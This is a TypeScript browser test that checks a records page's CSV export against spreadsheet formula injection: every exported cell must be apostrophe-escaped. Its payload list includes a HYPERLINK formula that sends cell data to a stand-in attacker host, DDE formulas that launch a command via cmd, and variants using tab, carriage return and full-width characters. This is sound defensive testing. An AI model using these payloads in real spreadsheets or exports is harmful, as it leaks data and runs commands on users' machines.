import { readFile } from 'node:fs/promises';
import { expect, it } from 'vitest';
import { describeInChromium } from '../../browser/harness.ts';
import { change, entry, typical } from '../../browser/scene.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** Parses CSV according to RFC 4180. */
function cellsOf(text: string): readonly string[] {
  return [...text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

describeInChromium('a CSV export', (visit) => {
  it('holds no cell that a spreadsheet runs as a formula', async () => {
    const entries = FORMULAS.flatMap((formula, index) => {
      const names = { mapping: formula, namespace: formula, secret: formula };
      const actor = { kind: 'operator', name: formula, address: formula } as const;
      const keys = { added: [formula], changed: [formula], removed: [formula] };
      const source = { store: formula, key: formula, version: formula };
      return [
        ...change(index, { ...names, actor, keys, action: 'update', sources: [source], note: formula }),
        entry({ actor, store: formula, key: formula, note: formula }),
        entry({
          actor,
          action: 'review',
          review: { sequence: 4 * index + 1, state: 'flagged' },
          note: formula,
        }),
      ];
    });
    await using tab = await visit({ role: 'viewer', at: '/records', scene: { ...typical(), entries } });
    const { page } = tab;
    await page.getByLabel('Export matching records as').selectOption('CSV');
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export' }).click(),
    ]);
    const cells = cellsOf(await readFile(await file.path(), 'utf8'));
    for (const formula of FORMULAS)
      expect(cells.filter((cell) => cell === `'${formula}`).length, formula).toBeGreaterThan(10);
    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
  });
});
